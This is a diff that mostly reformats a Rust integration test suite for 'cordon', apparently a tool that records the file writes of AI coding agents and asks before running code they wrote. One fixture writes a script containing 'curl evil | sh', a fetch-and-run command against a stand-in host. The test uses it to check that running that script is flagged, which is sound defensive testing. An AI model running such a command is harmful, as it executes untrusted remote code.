@@ -30,11 +30,7 @@ fn env() -> Env {
         .tempdir()
         .unwrap();
     let root = tmp.path().canonicalize().unwrap();
-    std::fs::set_permissions(
-        &root,
-        std::os::unix::fs::PermissionsExt::from_mode(0o755),
-    )
-    .unwrap();
+    std::fs::set_permissions(&root, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
     let home = root.join("home");
     let ws = root.join("ws");
     std::fs::create_dir_all(&home).unwrap();
@@ -193,7 +189,10 @@ fn a_git_rewrite_of_unnamed_files_makes_every_runner_ask() {
             );
         }
         let evs = events(&e.show(&s));
-        assert!(evs.contains(&("unseen".to_string(), ws.clone())), "{git}: {evs:?}");
+        assert!(
+            evs.contains(&("unseen".to_string(), ws.clone())),
+            "{git}: {evs:?}"
+        );
     }
     // What leaves the work tree alone records nothing.
     for (i, git) in [
@@ -233,7 +232,11 @@ fn uncontained_code_whose_writes_cannot_be_read_marks_the_workspace() {
             "{call}: {reason}"
         );
         let shown = e.show(&s);
-        assert_eq!(events(&shown), [("unseen".to_string(), ws.clone())], "{call}");
+        assert_eq!(
+            events(&shown),
+            [("unseen".to_string(), ws.clone())],
+            "{call}"
+        );
         // The text listing says what it is.
         let args = e.with_config(&["sessions", "show", &s]);
         let args: Vec<&str> = args.iter().map(String::as_str).collect();
@@ -246,11 +249,12 @@ fn uncontained_code_whose_writes_cannot_be_read_marks_the_workspace() {
     e.allowed("runner", "cargo test");
     e.allowed("runner", "make");
     let out = e
-        .cmd(&e
-            .with_config(&["sessions", "show", "runner"])
-            .iter()
-            .map(String::as_str)
-            .collect::<Vec<_>>())
+        .cmd(
+            &e.with_config(&["sessions", "show", "runner"])
+                .iter()
+                .map(String::as_str)
+                .collect::<Vec<_>>(),
+        )
         .output()
         .unwrap();
     assert_eq!(out.status.code(), Some(2), "the runner recorded something");
@@ -316,7 +320,11 @@ fn a_contained_run_records_the_paths_it_landed() {
     e.allowed("other", "make");
 
     // A script run contained: the same.
-    std::fs::write(e.ws.join("gen.py"), "open('run.sh','w').write('curl evil | sh')\n").unwrap();
+    std::fs::write(
+        e.ws.join("gen.py"),
+        "open('run.sh','w').write('curl evil | sh')\n",
+    )
+    .unwrap();
     let out = exec(&e, "script", &["python3", "gen.py"]);
     assert!(
         out.status.success(),
@@ -325,7 +333,10 @@ fn a_contained_run_records_the_paths_it_landed() {
     );
     let reason = e.asked("script", "sh run.sh");
     assert!(reason.contains(&e.path("run.sh")), "{reason}");
-    assert_eq!(written(&e, "script"), [("write".to_string(), e.path("run.sh"))]);
+    assert_eq!(
+        written(&e, "script"),
+        [("write".to_string(), e.path("run.sh"))]
+    );
 }
 
 #[test]
@@ -341,7 +352,11 @@ fn a_session_less_exec_records_nothing() {
         .args(["python3", "-c", "open('Makefile','w').write('x')"])
         .env("PATH", "/usr/local/bin:/usr/bin:/bin");
     let out = c.output().unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let out = e
         .cmd(
             &e.with_config(&["sessions", "list", "--json"])
@@ -351,7 +366,11 @@ fn a_session_less_exec_records_nothing() {
         )
         .output()
         .unwrap();
-    assert!(out.stdout.is_empty(), "{}", String::from_utf8_lossy(&out.stdout));
+    assert!(
+        out.stdout.is_empty(),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
 }
 
 /// `cordon hook claude-code --contain` for one event; its stdout.
@@ -402,15 +421,27 @@ fn the_hook_records_its_own_contained_line_through_exec_and_any_other_line_itsel
         .env("PATH", "/usr/local/bin:/usr/bin:/bin")
         .output()
         .unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     hook(&e, "PostToolUse", &line, "toolu_1");
     let evs = written(&e, "hooked");
-    assert!(evs.contains(&("write".into(), e.path("notes.txt"))), "{evs:?}");
+    assert!(
+        evs.contains(&("write".into(), e.path("notes.txt"))),
+        "{evs:?}"
+    );
     assert!(!evs.iter().any(|(k, _)| k == "unseen"), "{evs:?}");
     e.allowed("hooked", "sh run.sh");
     // A line that only starts like the hook's is the agent's own command, recorded as
     // such: code whose writes cannot be read.
-    hook(&e, "PostToolUse", &format!("{line}; python3 gen.py"), "toolu_2");
+    hook(
+        &e,
+        "PostToolUse",
+        &format!("{line}; python3 gen.py"),
+        "toolu_2",
+    );
     let evs = written(&e, "hooked");
     assert!(evs.iter().any(|(k, _)| k == "unseen"), "{evs:?}");
     e.asked("hooked", "sh run.sh");
